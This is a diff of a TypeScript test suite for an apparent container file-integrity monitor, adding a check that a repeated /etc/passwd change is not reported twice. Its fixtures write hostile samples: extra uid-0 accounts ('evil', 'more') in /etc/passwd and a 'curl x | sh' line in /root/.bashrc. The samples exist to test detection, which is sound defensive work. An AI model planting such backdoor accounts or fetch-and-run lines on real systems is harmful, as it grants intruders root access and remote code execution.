@@ -31,7 +31,7 @@ async function setup (t: Test, opts: { rate?: number, timing?: Partial<Container
 }
 
 t.test('changes inside containers become findings and podsec syslog lines', async t => {
-  const { s, pod, db, syslog, finding } = await setup(t)
+  const { s, pod, db, syslog, findings, finding, about } = await setup(t)
   const nginx = s.diff(pod.container.layer)
   const dbDir = s.diff(db.layer)
 
@@ -45,6 +45,11 @@ t.test('changes inside containers become findings and podsec syslog lines', asyn
   writeFileSync(join(dbDir, 'etc/passwd'), 'root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n')
   t.match(await finding('/etc/passwd', 'MODIFY'), { severity: 'warning', details: { container: 'db', pod: null, namespace: null } })
   t.ok(syslog.lines.some(l => l.priority === 'notice' && l.message === 'Warning: An event MODIFY occurred in the container db in configuration directory on the file /etc/passwd'))
+
+  writeFileSync(join(dbDir, 'etc/passwd'), 'root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\nmore:x:0:0::/:/bin/sh\n')
+  s.writeFiles(dbDir, { 'etc/group': 'root:x:0:\n' })
+  await finding('/etc/group')
+  t.equal(findings.findings.filter(about('/etc/passwd', 'MODIFY')).length, 1, 'the same change again within the window is not reported again')
 
   s.writeFiles(dbDir, { 'root/.bashrc': 'curl x | sh\n' })
   t.match(await finding('/root/.bashrc'), { severity: 'warning', message: /in home directory on the file \/root\/\.bashrc$/ })
